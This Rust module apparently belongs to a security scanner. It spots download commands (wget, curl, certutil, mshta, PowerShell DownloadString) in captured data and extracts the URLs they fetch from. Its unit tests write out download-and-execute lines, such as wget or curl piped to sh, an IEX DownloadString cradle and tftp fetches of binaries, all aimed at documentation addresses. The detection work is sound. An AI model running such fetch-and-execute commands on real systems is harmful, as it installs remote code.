//! Commands that fetch a program, and from where.

use super::ascii;
use alloc::{format, string::String, vec::Vec};

/// Commands and functions that fetch: those of shells, then those of Windows and of scripts.
pub(super) const COMMANDS: [&str; 22] = [
    "wget",
    "curl",
    "fetch",
    "ftpget",
    "tftp",
    "axel",
    "aria2c",
    "lwp-download",
    "lynx",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "iwr",
    "irm",
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "certutil",
    "bitsadmin",
    "mshta",
    "regsvr32",
    "urlretrieve",
];
const SCHEMES: [&[u8]; 5] = [b"http://", b"https://", b"ftp://", b"tftp://", b"\\\\"];
/// How far behind a command its address stands, in bytes.
const COMMAND_BYTES_MAX: usize = 512;
/// The longest address that is told, in bytes.
const URL_BYTES_MAX: usize = 120;
/// Commands looked at in one piece, and addresses told of it.
const COMMANDS_MAX: usize = 256;
const URLS_MAX: usize = 4;

/// From where something is fetched in one piece; the first few places.
#[derive(Debug, Default)]
pub(super) struct Fetches {
    commands: usize,
    urls: Vec<String>,
}

impl Fetches {
    /// One of [`COMMANDS`] stands at `start` to `end`.
    pub(super) fn command(&mut self, bytes: &[u8], command: usize, (start, end): (usize, usize)) {
        self.commands += 1;
        if self.commands > COMMANDS_MAX || self.urls.len() >= URLS_MAX {
            return;
        }
        let is_word = start == 0 || !matches!(bytes[start - 1], b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_' | b'-');
        let behind = &bytes[end..];
        let ends = behind.first().is_some_and(|byte| matches!(byte, b' ' | b'\t' | b'(' | b',' | b'.' | b'"' | b'\''));
        if !is_word || !ends {
            return;
        }
        let (is_tftp, words) = (COMMANDS[command] == "tftp", one_command(behind));
        let url = url(words).or_else(|| if is_tftp { by_tftp(words) } else { bare(words) });
        self.urls.extend(url.filter(|url| !self.urls.contains(url)));
    }

    pub(super) fn urls(self) -> Vec<String> {
        self.urls
    }
}

/// Up to where the next command begins.
fn one_command(behind: &[u8]) -> &[u8] {
    let behind = &behind[..behind.len().min(COMMAND_BYTES_MAX)];
    let end = behind.iter().position(|byte| matches!(byte, b'\n' | b'\r' | b';' | b'|' | b'`' | 0));
    &behind[..end.unwrap_or(behind.len())]
}

fn url(command: &[u8]) -> Option<String> {
    let start = (0..command.len()).find(|place| {
        let rest = &command[*place..];
        SCHEMES.iter().any(|scheme| rest.get(..scheme.len()).is_some_and(|head| head.eq_ignore_ascii_case(scheme)))
    })?;
    let rest = &command[start..];
    let end = rest.iter().position(|byte| ends_url(*byte)).unwrap_or(rest.len());
    (end > 10).then(|| ascii(&rest[..end], URL_BYTES_MAX))
}

const fn ends_url(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'"' | b'\'' | b'<' | b'>' | b')' | b'(' | b',' | b'&' | b'{' | b'}' | b'^')
}

/// A host without a scheme: `wget 192.0.2.1/x`. It must be an IPv4 address, for a word may be anything.
fn bare(command: &[u8]) -> Option<String> {
    words(command).find(|word| is_address(word)).map(|word| format!("http://{}", ascii(word, URL_BYTES_MAX)))
}

/// `-g -r FILE HOST`, `HOST -c get FILE`, `-i HOST GET FILE`.
fn by_tftp(command: &[u8]) -> Option<String> {
    let host = words(command).find(|word| is_address(word))?;
    let mut all = words(command);
    let file = all.find(|word| *word == b"-r" || word.eq_ignore_ascii_case(b"get")).and_then(|_| all.next());
    Some(format!("tftp://{}/{}", ascii(host, 64), ascii(file.unwrap_or_default(), 64)))
}

fn words(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    command.split(|byte| ends_url(*byte)).filter(|word| !word.is_empty())
}

/// Begins with four numbers and dots.
fn is_address(word: &[u8]) -> bool {
    let host = word.split(|byte| matches!(byte, b'/' | b':')).next().unwrap_or_default();
    let parts =
        host.split(|byte| *byte == b'.').filter(|part| matches!(part.len(), 1..=3) && part.iter().all(u8::is_ascii_digit));
    parts.count() == 4 && host.iter().filter(|byte| **byte == b'.').count() == 3
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recognise::words::{Word, Words};

    fn find(bytes: &[u8]) -> Vec<String> {
        let mut fetches = Fetches::default();
        Words::new().search(bytes, |hit| {
            if let Word::Fetch(command) = hit.word {
                fetches.command(bytes, command, (hit.start, hit.end));
            }
        });
        fetches.urls()
    }

    #[test]
    fn the_place_is_told_from_which_a_program_is_fetched() {
        let cases: [(&[u8], &[&str]); 12] = [
            (b"cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh", &["http://198.51.100.9/x.sh"]),
            (b"curl -fsSL https://a.example/i.sh | sh", &["https://a.example/i.sh"]),
            (
                b"busybox wget -O- http://198.51.100.9:8080/m||curl http://198.51.100.9/m",
                &["http://198.51.100.9:8080/m", "http://198.51.100.9/m"],
            ),
            (b"tftp -g -r arm7 198.51.100.9", &["tftp://198.51.100.9/arm7"]),
            (b"tftp 198.51.100.9 -c get x.sh;", &["tftp://198.51.100.9/x.sh"]),
            (b"wget 198.51.100.9/bins.sh", &["http://198.51.100.9/bins.sh"]),
            (b"IEX(New-Object Net.WebClient).DownloadString('http://a.example/p.ps1')", &["http://a.example/p.ps1"]),
            (b"certutil.exe -urlcache -f http://a.example/p.exe p.exe", &["http://a.example/p.exe"]),
            (b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\nReferer: http://a.example/\r\n", &[]),
            (b"User-Agent: curl/8.5.0\r\n", &[]),
            (b"how to use wget in scripts", &[]),
            (b"forget http://a.example/", &[]),
        ];
        for (bytes, urls) in cases {
            assert_eq!(find(bytes), urls, "{}", String::from_utf8_lossy(bytes));
        }
    }

    #[test]
    fn what_is_told_is_bounded_and_printable() {
        let long = [&b"wget http://a.example/\x1b[2J"[..], &[b'x'; 5_000]].concat();
        let urls = find(&long);
        assert!(
            urls.len() == 1 && urls[0].len() <= URL_BYTES_MAX && urls[0].is_ascii() && !urls[0].contains('\u{1b}'),
            "{urls:?}"
        );
        let many: Vec<u8> = (0..50).flat_map(|n| format!("wget http://198.51.100.9/{n}\n").into_bytes()).collect();
        assert_eq!(find(&many).len(), URLS_MAX);
    }
}
